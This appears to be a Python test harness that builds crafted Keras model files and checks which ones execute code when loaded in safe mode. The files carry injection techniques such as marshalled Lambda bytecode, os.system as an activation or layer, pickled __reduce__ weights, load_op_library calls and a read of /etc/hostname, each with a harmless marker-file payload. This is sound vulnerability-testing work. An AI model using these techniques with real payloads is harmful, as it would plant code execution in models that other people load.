"""Write Keras files that run code when Keras reads them, or that name what is not Keras's.

TOOLCHAIN/bin/python hostile_keras_files.py FOLDER            writes them
TOOLCHAIN/bin/python hostile_keras_files.py FOLDER NAME...    reads some with their Keras, and prints those that ran code

Code makes the file FOLDER/NAME.ran.
"""

import base64
import contextlib
import io
import json
import marshal
import os
import pathlib
import sys
import zipfile

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["CUDA_VISIBLE_DEVICES"] = ""

import h5py
import keras
import numpy as np
import tf_keras

FILES = {}


def hostile(name):
    """Register a function that changes the configuration of a small model, given the path of the file that code makes."""

    def registered(change):
        FILES[name] = change
        return change

    return registered


def _bytecode(place):
    """A marshalled function of one argument that makes `place`, in the form of Keras 2 and of Keras 3."""
    made = {}
    exec(f"def f(x, *others): open({place!r}, 'w').close(); return x", made)
    return base64.b64encode(marshal.dumps(made["f"].__code__)).decode()


def _lambda(place, kind):
    code = _bytecode(place)
    function = (
        {
            "function": [code, None, None],
            "function_type": "lambda",
            "module": "builtins",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
        }
        if kind == "2"
        else {"function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}
    )
    return {"name": "twice", "trainable": True, "dtype": "float32", "arguments": {}, **function}


def _layers(config):
    return config["config"]["layers"]


def _layer(config, kind, inner, **more):
    """Put a layer before the last one of a functional model."""
    last = _layers(config)[-1]
    name = inner.get("name", "evil") if isinstance(inner, dict) else "evil"
    new = {**last, "class_name": kind, "config": inner, "name": name, "inbound_nodes": last["inbound_nodes"], **more}
    _layers(config).insert(-1, new)


def _constant(value):
    """The call of a layer of Keras 2 with a value instead of a tensor."""
    return [[["_CONSTANT_VALUE", -1, value, {}]]]


@hostile("lambda2.h5")
def _(config, place):
    _layer(config, "Lambda", _lambda(place, "2"))


@hostile("lambda2.keras")
def _(config, place):
    _layer(config, "Lambda", _lambda(place, "2"), module="keras.layers", registered_name=None)


@hostile("lambda3.h5")
def _(config, place):
    _layer(config, "Lambda", _lambda(place, "3"))


@hostile("lambda3.keras")
def _(config, place):
    _layer(config, "Lambda", _lambda(place, "3"), module="keras.layers", registered_name=None)


@hostile("cell2.h5")
def _(config, place):
    cell = {
        "class_name": "ResidualWrapper",
        "config": {
            "cell": {"class_name": "GRUCell", "config": {"units": 4}},
            "residual_fn": [_bytecode(place), None, None],
            "residual_fn_type": "lambda",
            "residual_fn_module": "builtins",
        },
    }
    _layer(config, "RNN", {"name": "evil", "cell": cell})


@hostile("dotted2.keras")
def _(config, place):
    _layer(config, "lambda_layer.Lambda", _lambda(place, "2"), module="tf_keras.src.layers.core", registered_name=None)


@hostile("registered2.keras")
def _(config, place):
    _layer(config, "Quiet", _lambda(place, "2"), module="keras.src.layers.core.lambda_layer", registered_name="Lambda")


@hostile("value2.keras")
def _(config, place):
    _layer(config, "__tuple__", {"name": "evil"}, module="os", registered_name="system")


@hostile("writes2.h5")
def _(config, place):
    inner = {"name": "evil", "function": "io.write_file", "dtype": "float32", "trainable": True}
    _layer(config, "TFOpLambda", inner, inbound_nodes=[["_CONSTANT_VALUE", -1, place, {"contents": "x"}]])


@hostile("library2.h5")
def _(config, place):
    inner = {"name": "evil", "function": "load_op_library", "dtype": "float32", "trainable": True}
    _layer(config, "TFOpLambda", inner, inbound_nodes=[["_CONSTANT_VALUE", -1, place, {}]])


@hostile("operation2.h5")
def _(config, place):
    node = {"name": "evil", "op": "WriteFile", "input": ["a", "b"]}
    _layer(config, "TensorFlowOpLayer", {"name": "evil", "node_def": node, "constants": {"0": place, "1": "x"}})


@hostile("method2.h5")
def _(config, place):
    _layer(config, "ClassMethod", {"name": "evil", "cls_symbol": "io.gfile.GFile", "method_name": "write"})


@hostile("function2.keras")
def _(config, place):
    _function(config, "keras.utils", "get_file", place)


@hostile("function3.keras")
def _(config, place):
    _function(config, "keras.utils", "get_file", place)


@hostile("loader2.keras")
def _(config, place):
    _function(config, "tf_keras.src.utils.generic_utils", "func_load", place)


@hostile("unsafe3.keras")
def _(config, place):
    _function(config, "keras.config", "enable_unsafe_deserialization", place)


@hostile("activation3.h5")
def _(config, place):
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    _layers(config)[-1]["config"]["activation"] = function


@hostile("vocabulary3.keras")
def _(config, place):
    _layer(config, "IntegerLookup", {"name": "words", "vocabulary": "/etc/hostname"}, module="keras.layers",
           registered_name=None)  # fmt: skip


@hostile("elsewhere3.keras")
def _(config, place):
    _layer(config, "TFSMLayer", {"name": "evil", "filepath": place}, module="keras.layers", registered_name=None)


@hostile("pickle2.keras")
def _(config, place):
    pass


@hostile("pickle3.keras")
def _(config, place):
    pass


def _function(config, module, name, *arguments):
    """Let a function of Keras be a layer, which is called with arguments of the file."""
    _layer(config, "function", name, module=module, registered_name=name,
           inbound_nodes=[{"args": list(arguments), "kwargs": {}}])  # fmt: skip


class _Opens:
    """Pickled, it makes a file when it is loaded."""

    def __init__(self, place):
        self.place = place

    def __reduce__(self):
        return open, (self.place, "w")


def _weights(place):
    """An archive of NumPy with a pickle in it."""
    array, kept = np.empty((), dtype=object), io.BytesIO()
    array[()] = _Opens(place)
    np.lib.format.write_array(kept, array, allow_pickle=True)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in ("_layer_checkpoint_dependencies/dense.npy", "layers/dense.npy"):
            archive.writestr(name, kept.getvalue())
    return made.getvalue()


def _base(path, library):
    x = library.Input((4,), name="x")
    library.Model(x, library.layers.Dense(4, name="score")(library.layers.Dense(4, name="dense")(x))).save(path)


def write(folder):
    for name, change in FILES.items():
        path = pathlib.Path(folder, name)
        place = f"{path}.ran"
        _base(path, tf_keras if path.stem.endswith("2") else keras)
        if path.suffix == ".h5":
            with h5py.File(path, "r+") as file:
                config = json.loads(file.attrs["model_config"])
                change(config, place)
                file.attrs["model_config"] = json.dumps(config)
            continue
        with zipfile.ZipFile(path) as archive:
            members = {each: archive.read(each) for each in archive.namelist()}
        config = json.loads(members["config.json"])
        change(config, place)
        members["config.json"] = json.dumps(config).encode()
        if name.startswith("pickle"):
            del members["model.weights.h5"]
            members["model.weights.npz"] = _weights(place)
        with zipfile.ZipFile(path, "w") as archive:
            for each, content in members.items():
                archive.writestr(each, content)


def read(folder, names):
    for name in names:
        path = pathlib.Path(folder, name)
        library = tf_keras if path.stem.endswith("2") else keras
        with contextlib.suppress(Exception):  # it may fail after it has run the code
            made = library.saving.load_model(path, compile=False, safe_mode=True)
            made(np.zeros((1, 4), np.float32))
        if pathlib.Path(f"{path}.ran").exists():
            sys.stdout.write(f"{name}\n")


if __name__ == "__main__":
    if sys.argv[2:]:
        read(sys.argv[1], sys.argv[2:])
    else:
        write(sys.argv[1])
